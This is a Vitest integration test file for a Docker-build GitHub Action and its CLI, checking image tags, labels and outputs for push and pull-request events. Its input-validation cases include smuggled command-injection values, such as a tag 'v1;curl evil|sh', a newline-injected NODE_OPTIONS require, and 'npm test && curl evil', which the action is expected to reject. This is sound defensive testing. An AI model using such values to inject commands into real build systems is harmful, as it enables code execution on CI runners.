import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { run } from '@trunkline/core/adapters/process';
import { docker } from '@trunkline/core/adapters/docker';
import { imageId, imageLabels } from '@trunkline/core/adapters/docker-build';
import { BUILD_ONLY_KEYS } from '@trunkline/core/stages/build';
import { repoRoot } from '../../core/test/support/paths.ts';
import { runBundledAction } from '../../core/test/support/runner.ts';
import { prepareDocker } from '../../core/test/support/infra.ts';
import { makeServiceRepo } from '../../core/test/build/git-fixture.ts';
import { example } from '../../core/test/build/webhook-examples.ts';

// Runs action-build/dist/index.js exactly as the runner does (INPUT_*, GITHUB_OUTPUT, a real
// event payload at GITHUB_EVENT_PATH) against real dockerd, and the CLI against the same event.
const IMAGE = `trunkline-test/action-build-${process.pid}`;
let runtime: string;
let repo: Awaited<ReturnType<typeof makeServiceRepo>>;
let sha: string;
let scratch: string;

function writePayload(name: string, payload: unknown): string {
  const path = join(scratch, `${name}.json`);
  writeFileSync(path, JSON.stringify(payload));
  return path;
}

function githubEnv(eventName: string, payloadPath: string, ref: string): Record<string, string> {
  return { GITHUB_EVENT_NAME: eventName, GITHUB_EVENT_PATH: payloadPath, GITHUB_REF: ref, GITHUB_SHA: sha, GITHUB_REPOSITORY: 'Codertocat/Hello-World', GITHUB_SERVER_URL: 'https://github.com' };
}

async function cliTags(args: string[]): Promise<Record<string, unknown>> {
  const r = await run(process.execPath, [join(repoRoot, 'core/src/cli/main.ts'), 'tags', ...args], { env: { GITHUB_REPOSITORY: 'Codertocat/Hello-World', GITHUB_SERVER_URL: 'https://github.com' } });
  return JSON.parse(r.stdout) as Record<string, unknown>;
}

function withoutBuildKeys(json: Record<string, unknown>): Record<string, unknown> {
  const copy = { ...json };
  for (const k of BUILD_ONLY_KEYS) delete copy[k];
  return copy;
}

beforeAll(async () => {
  ({ runtime } = await prepareDocker());
  repo = await makeServiceRepo({ branch: 'master' });
  sha = await repo.commit('hello.txt', 'hello from the action\n', '2024-06-01T09:15:00Z');
  scratch = mkdtempSync(join(tmpdir(), 'trunkline-action-build-'));
});

afterAll(async () => {
  const listed = await docker(['image', 'ls', '--format', '{{.Repository}}:{{.Tag}}', IMAGE], { allowFailure: true });
  const refs = listed.stdout.split('\n').filter(Boolean);
  if (refs.length) await docker(['image', 'rm', '--force', ...refs], { allowFailure: true });
  if (repo) rmSync(repo.dir, { recursive: true, force: true });
  if (scratch) rmSync(scratch, { recursive: true, force: true });
});

const inputs = () => ({ image: IMAGE, context: repo.dir, 'build-args': `RUNTIME_IMAGE=${runtime}`, network: 'host' });

describe('action-build bundle under the runner contract', () => {
  it('push to the default branch: builds, sets every output, writes the summary; the CLI prints the same json', async () => {
    const payload = example('push', (p) => p.ref === 'refs/heads/master');
    const path = writePayload('push', payload);
    const r = await runBundledAction('action-build', inputs(), { env: githubEnv('push', path, 'refs/heads/master'), cwd: repo.dir });
    expect(r.stdout).not.toMatch(/::error::/);
    expect(r.code).toBe(0);
    const short = sha.slice(0, 7);
    expect(r.outputs.image).toBe(IMAGE);
    expect(r.outputs.tags).toBe(`sha-${short}\nlatest`);
    expect(r.outputs.tag).toBe(`sha-${short}`);
    expect(r.outputs['image-ref']).toBe(`${IMAGE}:sha-${short}`);
    expect(r.outputs['image-id']).toBe(await imageId(`${IMAGE}:latest`));
    expect(r.outputs.labels!.split('\n')).toContain('org.opencontainers.image.created=2024-06-01T09:15:00Z');
    expect(r.outputs.labels!.split('\n')).toContain(`org.opencontainers.image.revision=${sha}`);
    expect(await imageLabels(`${IMAGE}:sha-${short}`)).toMatchObject({ 'org.opencontainers.image.source': 'https://github.com/Codertocat/Hello-World' });
    const json = JSON.parse(r.outputs.json!) as Record<string, unknown>;
    expect(json['image-id']).toBe(r.outputs['image-id']);
    expect(json.builder).toMatch(/^(buildx|buildkit|classic)$/);
    expect(r.summary).toMatch(/\| `latest` \| push to the default branch master \|/);
    expect(r.summary).toMatch(/built by the \*\*(buildx|buildkit|classic)\*\* builder/);

    const cli = await cliTags(['--event-name', 'push', '--event-path', path, '--ref', 'refs/heads/master', '--sha', sha, '--image', IMAGE, '--context', repo.dir]);
    expect(cli).toEqual(withoutBuildKeys(json));
  });

  it('pull_request (real payload, head vs merge): the action and the CLI agree', async () => {
    const payload = example('pull_request', 'opened');
    const path = writePayload('pr', payload);
    const head = 'ec26c3e57ca3a959ca5aad62de7213c562f8c821';
    for (const prSha of ['head', 'merge']) {
      const r = await runBundledAction('action-build', { ...inputs(), 'pr-sha': prSha }, { env: githubEnv('pull_request', path, 'refs/pull/2/merge'), cwd: repo.dir });
      expect(r.code).toBe(0);
      expect(r.outputs.tags).toBe(`pr-2\nsha-${(prSha === 'head' ? head : sha).slice(0, 7)}`);
      const json = JSON.parse(r.outputs.json!) as Record<string, unknown>;
      expect(json.event).toEqual({ name: 'pull_request', ref: 'refs/pull/2/merge', sha, 'pr-head-sha': head, 'pr-merge-sha': sha });
      const cli = await cliTags(['--event-name', 'pull_request', '--event-path', path, '--ref', 'refs/pull/2/merge', '--sha', sha, '--image', IMAGE, '--context', repo.dir, '--pr-sha', prSha]);
      expect(cli).toEqual(withoutBuildKeys(json));
    }
  });

  describe('bad input fails before any build, naming the input', () => {
    const payloadPath = () => writePayload('push-bad', example('push', (p) => p.ref === 'refs/heads/master'));
    it.each<[string, Record<string, string>, RegExp]>([
      ['uppercase repository', { image: 'ghcr.io/Acme/App' }, /Input "image" has repository "Acme\/App" whose component "Acme" must be lowercase/],
      ['129-character tag', { tag: 'a'.repeat(129) }, /Input "tag" has tag .* is 129 characters long \(at most 128\)/],
      ['tag with ;', { tag: 'v1;curl evil|sh' }, /Input "tag" has tag "v1;curl evil\|sh", which contains ";"/],
      ['tag with a newline', { tag: 'v1\nNODE_OPTIONS=--require=/tmp/p' }, /Input "tag" must be a single tag on one line/],
      ['missing Dockerfile', { dockerfile: 'missing/Dockerfile' }, /Input "dockerfile" file "missing\/Dockerfile" does not exist/],
      ['unknown platform', { platforms: 'linux/amd64,linux/sparc' }, /Input "platforms" names unknown platform "linux\/sparc"/],
      ['lint-command with shell syntax', { 'lint-command': 'npm test && curl evil' }, /Input "lint-command" contains "&"/],
    ])('%s', async (_name, bad, message) => {
      // TRUNKLINE_DOCKER names a missing program: reaching docker at all would be a different error.
      const r = await runBundledAction('action-build', { ...inputs(), ...bad }, { env: { ...githubEnv('push', payloadPath(), 'refs/heads/master'), TRUNKLINE_DOCKER: '/nonexistent/docker' }, cwd: repo.dir });
      expect(r.code).toBe(1);
      expect(r.stdout).toMatch(message);
      expect(r.stdout).not.toMatch(/could not start/);
      expect(r.outputs['image-id']).toBeUndefined();
    });
  });
});
